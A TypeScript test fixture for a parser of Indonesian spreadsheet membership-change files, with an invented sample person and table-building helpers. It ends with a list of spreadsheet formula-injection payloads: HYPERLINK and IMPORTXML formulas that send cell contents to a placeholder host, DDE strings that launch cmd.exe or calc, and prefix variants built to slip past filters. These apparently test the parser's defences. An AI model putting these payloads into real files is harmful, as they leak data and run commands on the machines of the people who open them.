/** Sheets and rows of Format 34/37 as tests write them by hand. All people are invented (serial 9000 and up). */
import { type BarisBerkas, bacaBerkas, type HasilBerkas, type OpsiBerkas } from '#domain/format/baca-berkas.ts';
import { type Format, type KunciKolom, kolomFormat } from '#domain/format/kolom.ts';
import { barisTeks, type Lembar, type Sel } from '#domain/format/sel.ts';
import { type Letak, temukanTabel } from '#domain/format/temukan.ts';
import { tgl } from './buat.ts';

export const KONTEKS: OpsiBerkas = { hariIni: tgl('2026-11-21'), kodeWilayah: '3271', abaikan: ['W_SERI9'] };

/** A man of Kota Bogor with nothing wrong, as cells of the file. */
export const ORANG: Readonly<Partial<Record<KunciKolom, string>>> = {
  no: '1',
  no_kartu: '0001234509001',
  jenis_mutasi: 'PENGALIHAN_KE_PBI_APBD',
  tgl_berlaku: '01/12/2026',
  no_kk: '3271011508109001',
  nik: '3271011708909001',
  nama: 'BUDI SANTOSO',
  hubkel: '1',
  tempat_lahir: 'BOGOR',
  tgl_lahir: '17/08/1990',
  jk: '1',
  kawin: '2',
  alamat: 'JL. MELATI NO. 5',
  rt: '003',
  rw: '010',
  kode_pos: '16131',
  nama_kec: 'Bogor Selatan',
  nama_desa: 'Batu Tulis',
  kode_fktp: '09020107',
  nama_fktp: 'PUSKESMAS BOGOR SELATAN',
  hp: '081234567890',
  kelas: '3',
  wn: '1',
};

export type Isian = Partial<Record<KunciKolom, string | Sel>>;

const sel = (isi: string | Sel | undefined): Sel =>
  typeof isi === 'object' ? isi : { teks: isi ?? '', jenis: isi ? 'teks' : 'kosong' };

export const angka = (teks: string): Sel => ({ teks, jenis: 'angka' });

/** A data row: ORANG with changes. */
export const baris = (format: Format, ubah: Isian = {}): Sel[] =>
  kolomFormat(format).map(({ kunci }) => sel(kunci in ubah ? ubah[kunci] : ORANG[kunci]));

export const nomor = (format: Format): Sel[] => kolomFormat(format).map((_, i) => angka(String(i + 1)));

/** Numbering row and data rows: the least that is a table. */
export const lembar = (format: Format, ...ubah: Isian[]): Lembar => [
  nomor(format),
  ...ubah.map((satu) => baris(format, satu)),
];

export function letak(isi: Lembar, format?: Format): Letak {
  const hasil = temukanTabel(isi, format);
  if (!hasil.ok) throw new Error(`no table: ${hasil.error.kode}`);
  return hasil.value;
}

export function baca(isi: Lembar, opsi: Partial<OpsiBerkas> = {}): HasilBerkas {
  const hasil = bacaBerkas(isi, letak(isi), { ...KONTEKS, ...opsi });
  if (!hasil.ok) throw new Error(`refused: ${hasil.error.kode}`);
  return hasil.value;
}

/** Findings of one row as `key:code`. */
export function temuan(format: Format, ubah: Isian, opsi: Partial<OpsiBerkas> = {}): string[] {
  return (baca(lembar(format, ubah), opsi).baris[0]?.temuan ?? []).map(({ kolom, kode }) => `${kolom}:${kode}`);
}

/** The rows of a text table: cells split at `|`. */
export const tabel = (...isi: string[]): Lembar =>
  isi.map((satu) => barisTeks(satu === '' ? [] : satu.split('|').map((teks) => teks.trim())));

/** The one row of a file with ORANG and changes. */
export function rekaman(ubah: Isian = {}, format: Format = 'F34'): BarisBerkas {
  const satu = baca(lembar(format, ubah)).baris[0];
  if (!satu) throw new Error('no row');
  return satu;
}

/** Text that some spreadsheet runs, in front of it everything that a spreadsheet overlooks. */
const TUBUH = [
  'HYPERLINK("http://x/?"&A1,"klik")',
  'IMPORTXML(CONCAT("http://x/",A2),"//a")',
  '1+1',
  'SUM(1)',
  "cmd|'/c calc'!A1",
];
const AWAL = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\u0000=',
  ' =',
  '\u00A0=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  ';=',
  ',=',
];
export const PAYLOAD = [
  ...AWAL.flatMap((awal) => TUBUH.map((tubuh) => awal + tubuh)),
  ...['|cmd', '%0A=1', "MSEXCEL|'\\..\\..\\cmd.exe'!''", 'JL. MELATI;=1+1', 'JL. MELATI\t@SUM(1)'],
];
